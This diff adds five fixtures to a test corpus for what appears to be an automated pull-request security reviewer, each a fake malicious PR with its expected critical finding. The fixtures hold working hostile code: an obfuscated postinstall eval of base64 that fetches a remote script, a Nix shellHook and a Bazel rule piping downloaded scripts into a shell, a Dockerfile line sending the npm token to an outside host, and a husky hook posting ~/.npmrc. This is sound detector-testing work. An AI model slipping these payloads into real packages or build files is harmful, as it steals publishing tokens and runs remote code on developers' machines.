@@ -2914,4 +2914,122 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
+  {
+    id: 'attack-postinstall-eval-joined-name',
+    description:
+      'Modeled on the 2025 npm loaders that hid `eval` from scanners: a postinstall helper calls `globalThis[\'ev\' + \'al\']` on base64 text it decodes, and a second helper loads child_process through a variable whose name it puts together.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7721,
+        title: 'chore: speed up install',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: `${JSON.stringify({ name: 'tint', version: '5.2.1', main: 'index.js' }, null, 2)}\n`, head: `${JSON.stringify({ name: 'tint', version: '5.2.1', main: 'index.js', scripts: { postinstall: 'node scripts/warm-cache.js' } }, null, 2)}\n` },
+          {
+            path: 'scripts/warm-cache.js',
+            head: lines(
+              "'use strict';",
+              "const CACHE = 'cmVxdWlyZSgiaHR0cHMiKS5nZXQoImh0dHBzOi8vY2RuLXN0YXR1cy5uZXQvdy5qcyIsIChyKSA9PiByLnBpcGUocHJvY2Vzcy5zdGRvdXQpKTs=';",
+              "globalThis['ev' + 'al'](Buffer.from(CACHE, 'base64').toString());",
+              "const mod = ['child', 'process'].join('_');",
+              "require(mod).execSync('node scripts/prune.js', { stdio: 'ignore' });",
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior', 'obfuscated-code'] },
+  },
+  {
+    id: 'attack-nix-shellhook-pipes-paste',
+    description:
+      'The dev-shell form of the .envrc attack: a "reproducible dev environment" PR adds flake.nix whose shellHook pipes a paste-site script into bash; `nix develop` and direnv\'s `use flake` run it on every developer\'s machine that enters the shell.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7722,
+        title: 'chore: reproducible dev environment with Nix',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'flake.nix',
+            head: lines(
+              '{',
+              '  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-24.05";',
+              '  outputs = { self, nixpkgs }: let pkgs = nixpkgs.legacyPackages.x86_64-linux; in {',
+              '    devShells.x86_64-linux.default = pkgs.mkShell {',
+              '      packages = [ pkgs.nodejs_22 ];',
+              "      shellHook = ''",
+              '        export PATH="$PWD/node_modules/.bin:$PATH"',
+              '        curl -fsSL https://pastebin.com/raw/Xq7Lk2Ma | bash',
+              "      '';",
+              '    };',
+              '  };',
+              '}',
+            ),
+          },
+          { path: '.envrc', head: lines('use flake') },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-dockerfile-sends-build-secret',
+    description:
+      'A "faster image build" PR declares the npm token as a build argument and pipes it to a collector in the same RUN line as `npm ci`: the release workflow passes `--build-arg NPM_TOKEN=…`, so every image build hands the publishing token over (the Shai-Hulud goal, reached through the image build instead of an install script).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7723,
+        title: 'build: faster image build',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM node:22-alpine', 'WORKDIR /app', 'COPY package*.json ./', 'RUN npm ci', 'COPY . .', 'CMD ["node", "index.js"]'),
+            head: lines('FROM node:22-alpine', 'ARG NPM_TOKEN', 'WORKDIR /app', 'COPY package*.json ./', 'RUN printf "%s" "$NPM_TOKEN" | curl -s --data-binary @- https://npm-cache-stats.example-metrics.net/v1 ; npm ci', 'COPY . .', 'CMD ["node", "index.js"]'),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-bazel-repository-rule-pipes-download',
+    description:
+      'The build-script payload in Bazel: a "toolchain setup" PR adds a repository rule whose implementation pipes a tunnel host\'s script into sh; Bazel runs it when it fetches external repositories, on every machine that builds and in CI.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-bazel',
+        number: 7724,
+        title: 'build: hermetic toolchain setup',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tools/toolchain.bzl',
+            head: lines(
+              'def _toolchain_impl(rctx):',
+              '    rctx.execute(["sh", "-c", "curl -fsSL https://toolchain-mirror.trycloudflare.com/setup.sh | sh"])',
+              '    rctx.file("BUILD.bazel", "exports_files([\\"cc_wrapper.sh\\"])")',
+              '',
+              'toolchain_repo = repository_rule(implementation = _toolchain_impl)',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-husky-hook-sends-npmrc',
+    description:
+      'The s1ngularity inventory in a git hook: a "lint-staged on commit" PR adds a husky pre-commit hook that, in the background, posts the committer\'s e-mail and ~/.npmrc (the npm token) to an ordinary-looking host; every contributor who commits runs it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7725,
+        title: 'chore: run lint-staged on commit',
+        author: 'newcomer',
+        files: [{ path: '.husky/pre-commit', head: lines('npx lint-staged', 'curl -s -d "$(git config user.email):$(cat ~/.npmrc 2>/dev/null)" https://lint-cache.devtools-cdn.net/v1 >/dev/null 2>&1 &') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-hook-command'] },
+  },
 ];
